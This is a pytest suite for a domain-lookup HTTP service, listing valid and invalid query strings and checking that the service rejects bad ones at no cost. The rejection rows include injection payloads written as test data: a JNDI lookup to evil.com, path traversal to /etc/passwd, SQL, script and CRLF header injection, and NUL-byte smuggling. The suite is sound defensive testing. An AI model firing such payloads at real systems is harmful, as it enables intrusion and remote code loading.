# SPDX-License-Identifier: MIT
"""test_inputs.py - tests the catalogue of invalid input on the wire, row by row.

V rows are values of `domain`, Q rows are forms of the query, F rows are the other parameters. A row has the
text after "GET /emails?", sent byte by byte as written (text as UTF-8). It also has either the domain of
the result, or the status and code of the rejection. All rejected rows go to one daemon with an upstream of
its own, which must not have received any request at the end.
"""
import contextlib
import re
from urllib.parse import quote

import pytest
from library import IS_STRICT, expect_rejection
from wire import Response

INVALID = (400, "invalid-domain")
MISSING = (400, "missing-domain")
UNKNOWN = (400, "unknown-parameter")
TWICE = (400, "duplicate-parameter")
PARAMETER = (400, "invalid-parameter")
FRAMING = (400, "invalid-request")
SUFFIX = (422, "public-suffix")
IP = (422, "ip-address")
SPECIAL = (422, "special-use-domain")
UNKNOWN_SUFFIX = (422, "unknown-suffix")


def value(row_id, text, expected):
    """Returns a row whose value is percent-encoded in the query."""
    return pytest.param("domain=" + quote(text, safe=""), expected, id=row_id)


def query(row_id, text, expected):
    """Returns a row whose query is sent unchanged."""
    return pytest.param(text, expected, id=row_id)


def name_of(length):
    """Returns a name of that many bytes, in labels of at most 60."""
    head = "".join("." if i % 61 == 60 and i < length - 5 else "a" for i in range(length - 4))
    return head + ".com"


GOOD = [
    query("V1", "domain=milvali.com", "milvali.com"),
    query("V2", "domain=MILVALI.COM", "milvali.com"),
    query("V3", "domain=Milvali.Com.", "milvali.com"),
    query("V12", "domain=%20milvali.com", "milvali.com"),
    query("V13", "domain=milvali.com%20", "milvali.com"),
    query("V14", "domain=milvali.com%09", "milvali.com"),
    query("V16", "domain=milvali.com%00", "milvali.com"),
    query("V19", "domain=milvali.com%0d%0a", "milvali.com"),
    query("V21", "domain=milvali.com%7f", "milvali.com"),
    query("V29", "domain=milvali%2ecom", "milvali.com"),
    query("V30", "domain=b%C3%BCcher.de", "xn--bcher-kva.de"),
    query("V31 raw", "domain=b\u00fccher.de", "xn--bcher-kva.de"),
    query("V33", "domain=xn--bcher-kva.de", "xn--bcher-kva.de"),
    query("V34", "domain=XN--BCHER-KVA.DE", "xn--bcher-kva.de"),
    query("V35", "domain=be%CC%81.fr", "xn--b-bga.fr"),
    value("V35 composed", "b\u00e9.fr", "xn--b-bga.fr"),
    query("V36", "domain=fa%C3%9F.de", "xn--fa-hia.de"),
    query("V37", "domain=fass.de", "fass.de"),
    value("V38", "\u0430\u0440\u0440\u04cf\u0435.com", "xn--80ak6aa92e.com"),
    value("V39", "\uff2d\uff29\uff2c\uff36\uff21\uff2c\uff29.com", "milvali.com"),
    value("V40 U+3002", "milvali\u3002com", "milvali.com"),
    value("V40 U+FF0E", "milvali\uff0ecom", "milvali.com"),
    value("V40 U+FF61", "milvali\uff61com", "milvali.com"),
    value("V41 letter", "\U0001d55eilvali.com", "milvali.com"),
    value("V41 ligature", "\ufb01.com", "fi.com"),
    value("V41 circle", "\u2460.com", "1.com"),
    query("V52", "domain=" + 63 * "a" + ".com", 63 * "a" + ".com"),
    query("V54", "domain=" + name_of(253), ".".join(name_of(253).split(".")[-2:])),
    query("V57 126 labels", "domain=" + ".".join(125 * "a") + ".de", "a.de"),
    query("V60", "domain=http://milvali.com", "milvali.com"),
    query("V60 port", "domain=https://www.milvali.com:8443/x", "milvali.com"),
    query("V61", "domain=https%3A%2F%2Fmilvali.com%2F", "milvali.com"),
    query("V63", "domain=milvali.com/", "milvali.com"),
    query("V63 path", "domain=milvali.com/path", "milvali.com"),
    query("V64", "domain=milvali.com?x=1", "milvali.com"),
    query("V64 encoded", "domain=milvali.com%3Fx", "milvali.com"),
    query("V65", "domain=milvali.com#f", "milvali.com"),
    query("V65 encoded", "domain=milvali.com%23f", "milvali.com"),
    query("V66", "domain=info@milvali.com", "milvali.com"),
    query("V78", "domain=1.com", "1.com"),
    query("V82", "domain=foo.github.io", "foo.github.io"),
    query("V83", "domain=www.milvali.com", "milvali.com"),
    query("V84", "domain=a.b.c.example.co.uk", "example.co.uk"),
    query("V85 exception", "domain=www.ck", "www.ck"),
    query("V94", "domain=+milvali.com%c2%a0", "milvali.com"),
    query("V95", "domain=_dmarc.milvali.com", "milvali.com"),
    query("V95 hyphens", "domain=https://r2---sn.milvali.com/", "milvali.com"),
    query("V95 hyphen", "domain=-a.b-.milvali.com", "milvali.com"),
    value("V95 symbol", "\u2603.milvali.com", "milvali.com"),
    query("V96", "domain=mailto:info@milvali.com", "milvali.com"),
    query("V96 fields", "domain=mailto:info@milvali.com%3Fsubject=x", "milvali.com"),
    value("V97", "\u0646\u0627\u0645\u0647\u200c\u0627\u06cc.com", "xn--mgba3gch31f060k.com"),
    query("Q6", "%64omain=a.com", "a.com"),
    query("Q8", "&&domain=a.com&&", "a.com"),
    query("Q20 UTF-8", b"domain=b\xc3\xbccher.de", "xn--bcher-kva.de"),
]

BAD = [
    query("V4", "domain=milvali.com..", INVALID),
    query("V5", "domain=.milvali.com", INVALID),
    query("V6", "domain=a..com", INVALID),
    query("V7", "domain=.", INVALID),
    query("V8", "domain=", MISSING),
    query("V9", "domain", MISSING),
    query("V10", "", MISSING),
    query("V11", "domain=%20", MISSING),
    query("V15", "domain=a+b.com", INVALID),
    query("V17", "domain=milvali.com%00.evil.com", INVALID),
    query("V18", "domain=milvali.com%0d%0aX-Injected:%201", INVALID),
    query("V20", "domain=milvali.com%1b[31m", INVALID),
    query("V22", "domain=%ff%fe.com", INVALID),
    query("V23", "domain=%c0%ae.com", INVALID),
    query("V24", "domain=%ed%a0%80.com", INVALID),
    query("V25", "domain=%zz.com", INVALID),
    query("V26", "domain=milvali.com%", INVALID),
    query("V27", "domain=%u006d.com", INVALID),
    query("V28", "domain=milvali%252ecom", INVALID),
    query("V32", "domain=b%FCcher.de", INVALID),
    value("V42", "a\u00adb.com", INVALID),
    value("V43", "a\u200db.com", INVALID),
    value("V44", "a\u202eb.com", INVALID),
    value("V45", "\u2603.net", INVALID),
    value("V46 slash", "a\uff0fb.com", INVALID),
    value("V46 colon", "a\uff1ab.com", INVALID),
    value("V47", "\u2100.com", INVALID),
    query("V48 single", "domain=xn--a", INVALID),
    query("V48", "domain=xn--zzzzzz--.com", INVALID),
    query("V49", "domain=ab--cd.com", INVALID),
    query("V50 start", "domain=-a.com", INVALID),
    query("V50 end", "domain=a-.com", INVALID),
    query("V51", "domain=a_b.com", INVALID),
    query("V95 suffix", "domain=_a.compute.amazonaws.com", INVALID),
    query("V95 list", "domain=a.com,www.milvali.com", INVALID),
    query("V96 two", "domain=mailto:a@milvali.com,b@milvali.com", INVALID),
    value("V97", "\u0646\u200d\u0627.com", INVALID),
    query("V53", "domain=" + 64 * "a" + ".com", INVALID),
    query("V55 254", "domain=" + name_of(254), INVALID),
    query("V55 255", "domain=" + name_of(255), INVALID),
    query("V56", "domain=" + name_of(10000), INVALID),
    query("V57 128 labels", "domain=" + ".".join(127 * "a") + ".a", INVALID),
    value("V58", 28 * "\u0431\u00fc" + ".com", INVALID),
    query("V59", "domain=milvali.com:443", INVALID),
    query("V62", "domain=//milvali.com", INVALID),
    query("V67", "domain=user:pw@milvali.com", INVALID),
    query("V68", "domain=*.milvali.com", INVALID),
    query("V69", "domain=milvali.com,example.com", INVALID),
    query("V70", "domain=milvali.com;x", INVALID),
    query("V71 double", 'domain="milvali.com"', INVALID),
    query("V71 single", "domain='milvali.com'", INVALID),
    query("V72", "domain=[milvali.com]", INVALID),
    query("V73", "domain=1.2.3.4", IP),
    query("V74", "domain=1.2.3.4.", IP),
    query("V75 brackets", "domain=[::1]", IP),
    query("V75", "domain=::1", IP),
    query("V75 zone", "domain=fe80::1%25eth0", IP),
    query("V76 short", "domain=127.1", IP),
    query("V76 hex", "domain=0x7f.1", IP),
    query("V76 octal", "domain=0177.0.0.1", IP),
    query("V76 one number", "domain=2130706433", IP),
    query("V77", "domain=a.1", INVALID),
    query("V77 number", "domain=123", IP),
    query("V79", "domain=localhost", SPECIAL),
    query("V80", "domain=com", SUFFIX),
    query("V80 two labels", "domain=co.uk", SUFFIX),
    query("V80 A-label", "domain=xn--p1ai", SUFFIX),
    query("V81", "domain=github.io", SUFFIX),
    query("V85 wildcard", "domain=a.ck", SUFFIX),
    query("V86 local", "domain=a.local", SPECIAL),
    query("V86 internal", "domain=a.internal", SPECIAL),
    query("V86 test", "domain=a.test", SPECIAL),
    query("V57 127 labels", "domain=" + ".".join(126 * "a") + ".a", UNKNOWN_SUFFIX),
    query("V87", "domain=milvali.newtld", UNKNOWN_SUFFIX),
    query("V87 URL", "domain=https://www.milvali.con/x", UNKNOWN_SUFFIX),
    query("V87 address", "domain=info@milvali.con", UNKNOWN_SUFFIX),
    query("V86 invalid", "domain=a.invalid", SPECIAL),
    query("V86 example", "domain=a.example", SPECIAL),
    query("V86 onion", "domain=a.onion", SPECIAL),
    query("V86 alt", "domain=a.alt", SPECIAL),
    query("V86 arpa", "domain=4.3.2.1.in-addr.arpa", SPECIAL),
    query("V88 template", "domain={{7*7}}", INVALID),
    query("V88 jndi", "domain=${jndi:ldap://evil.com/a}", INVALID),
    query("V88 script", "domain=<script>", INVALID),
    query("V88 SQL", "domain='%20OR%201=1", INVALID),
    query("V88 path", "domain=../../etc/passwd", INVALID),
    query("V88 format", "domain=%s%n", INVALID),
    query("V89 null", "domain=null", INVALID),
    query("V89 undefined", "domain=undefined", INVALID),
    query("V89 true", "domain=true", INVALID),
    query("V89 NaN", "domain=NaN", INVALID),
    value("V90", "\U0001f4a9.la", INVALID),
    value("V91", "\u05d0ab.com", INVALID),
    query("Q1", "domain=a.com&domain=b.com", TWICE),
    query("Q2", "domain=a.com&domain=a.com", TWICE),
    query("Q3", "domain=a.com&Domain=b.com", UNKNOWN),
    query("Q4", "DOMAIN=a.com", UNKNOWN),
    query("Q5 brackets", "domain[]=a.com", UNKNOWN),
    query("Q5 dot", "domain.x=", UNKNOWN),
    query("Q5 encoded", "domain%5B0%5D=", UNKNOWN),
    query("Q7", "domain%00x=a.com", UNKNOWN),
    query("Q9", "domain=a.com&x=1", UNKNOWN),
    query("Q10", "domain=a.com&domain", TWICE),
    query("Q11", "=a.com", UNKNOWN),
    query("Q12", "?domain=a.com", UNKNOWN),
    query("Q13", "&".join(f"p{i}=1" for i in range(90)), UNKNOWN),
    query("Q15", "domain=" + 8185 * "a", INVALID),
    query("Q17", "domain=a.com;domain=b.com", INVALID),
    query("Q18", "domain=a.com b.com", INVALID),
    query("Q20 no UTF-8", b"domain=b\xfccher.de", INVALID),
    query("Q20 any high byte", b"domain=\x80\xff.com", INVALID),
    query("Q19", b"domain=a.com\0.evil.com", FRAMING),
    query("Q21", b"domain=a.com\r.evil.com", FRAMING),
    query("F1 wait twice", "domain=a.com&wait=1&wait=1", TWICE),
    query("F2 wait is no number", "domain=a.com&wait=soon", PARAMETER),
    query("F2 wait below zero", "domain=a.com&wait=-1", PARAMETER),
    query("F2 wait with a sign", "domain=a.com&wait=%2B1", PARAMETER),
    query("F2 wait with a fraction", "domain=a.com&wait=1.5", PARAMETER),
    query("F2 wait with a unit", "domain=a.com&wait=1s", PARAMETER),
    query("F2 wait past int64", "domain=a.com&wait=99999999999999999999", PARAMETER),
    query("F2 wait empty", "domain=a.com&wait=", PARAMETER),
    query("F3 name empty", "domain=a.com&company_name=", PARAMETER),
    query("F3 name blank", "domain=a.com&company_name=%20%C2%A0", PARAMETER),
    query("F4 name too long", "domain=a.com&company_name=" + 201 * "x", PARAMETER),
    query("F5 name no UTF-8", "domain=a.com&company_name=%ff", PARAMETER),
    query("F6 city with a control", "domain=a.com&city=a%0ab", PARAMETER),
    query("F6 state with a NUL", "domain=a.com&state=a%00b", PARAMETER),
    query("F6 country with an escape", "domain=a.com&country=%1b[31m", PARAMETER),
    query("F7 a name of the upstream's", "domain=a.com&tracking_id=x", UNKNOWN),
]


@pytest.fixture(scope="module")
def generous(module_testbed):
    """The daemon for the valid rows."""
    return module_testbed.daemon(module_testbed.simulator())


@pytest.fixture(scope="module")
def frugal(module_testbed):
    """The daemon for the invalid rows. Its upstream must receive no call."""
    sim = module_testbed.simulator()
    yield module_testbed.daemon(sim)
    assert sim.calls()["requests"] == 0, sim.requests()


def send(daemon, text) -> Response:
    text = text.encode() if isinstance(text, str) else text
    connection = daemon.connect()
    answer = connection.get(b"/emails?" + text)
    connection.close()
    return answer


@pytest.mark.parametrize("text, domain", GOOD)
def test_input_valid_row_is_served_for_its_domain(generous, text, domain):
    answer = send(generous, text)
    assert answer.status == 200, answer
    assert answer.json()["domain"] == domain


@pytest.mark.parametrize("text, error", BAD)
def test_input_invalid_row_is_rejected_at_no_cost(frugal, text, error):
    raw = text.encode() if isinstance(text, str) else text
    if IS_STRICT and re.search(rb"[\0\r ]", raw):  # not even a request line
        connection = frugal.connect()
        connection.send_get(b"/emails?" + raw)
        expect_rejection(connection, raw)
        return
    problem = send(frugal, text).problem(*error)
    assert (problem["retryable"], problem["charged"]) == (False, "no")


@pytest.mark.parametrize("n", [300, 1000])
def test_q14_hundreds_of_parameters_do_not_affect_others(daemon, sim, n):
    """The library has no memory left even for an error response; the test checks that nothing else is
    affected. The daemon is not shared, so that a trace of this at its end does not fail other tests."""
    connection = daemon.connect()
    connection.send_get("/emails?domain=a.com&" + "&".join(f"p{i}=1" for i in range(n)))
    for _ in range(10):
        assert daemon.get("/livez").status == 200
    connection.end_writing()
    answer = connection.read_to_end()
    assert answer == b"" or answer.startswith(b"HTTP/1.1 4"), answer[:200]
    assert sim.calls()["requests"] == 0


@pytest.mark.parametrize("text", [
    pytest.param("domain=" + 16384 // 3 * "%41", id="V92"),
    pytest.param("domain=" + 65536 * "a", id="Q16"),
])
def test_query_over_the_memory_limit_is_rejected_by_libmicrohttpd(frugal, text):
    connection = frugal.connect()
    with contextlib.suppress(ConnectionError):  # rejected while it is sent
        connection.send_get("/emails?" + text)
    assert connection.read().status == 414


def test_v93_spellings_of_a_name_are_one_question(testbed, sim):
    daemon = testbed.daemon(sim)
    for mask in range(32):
        letters = [c.upper() if mask >> i & 1 else c for i, c in enumerate("milva")]
        for spelling in ("".join(letters) + "li.com", "".join(letters) + "li.com."):
            assert daemon.lookup(spelling).json()["domain"] == "milvali.com"
    assert len(sim.ledger()) == 1


def test_lookalike_domains_are_different_questions(testbed, sim):
    daemon = testbed.daemon(sim)
    pairs = ["\u0430\u0440\u0440\u04cf\u0435.com", "apple.com", "fa\u00df.de", "fass.de"]
    assert len({daemon.lookup(name).json()["domain"] for name in pairs}) == 4
    assert len(sim.ledger()) == 4


@pytest.mark.parametrize("text, words", [
    query("a missing suffix", "domain=milvali", "did you mean milvali.com?"),
    query("a mistyped suffix", "domain=shop.milvali.con", "did you mean milvali.com?"),
    query("a mistyped name", "domain=a.com&contry=US", "did you mean 'country'?"),
    query("a mistyped domain", "domian=a.com", "did you mean 'domain'?"),
])
def test_problem_detail_names_the_fault(frugal, text, words):
    assert words in send(frugal, text).json()["detail"]


@pytest.mark.parametrize("text", [
    "domain=user:hunter2@milvali.com",
    "domain=https://user:hunter2@milvali.com/",
    "hunter2=https://user:hunter2@milvali.com/&domain=a.com&" + "hunter2" * 10,
    "domain=%1b[31mhunter2",
])
def test_log_omits_input_that_may_be_secret(frugal, text):
    send(frugal, text)
    assert "hunter2" not in frugal.stderr()


def test_injected_header_is_not_in_the_response(frugal):
    answer = send(frugal, "domain=milvali.com%0d%0aX-Injected:%201")
    assert answer.header("X-Injected") is None
    assert answer.body.count(b"\n") == 1
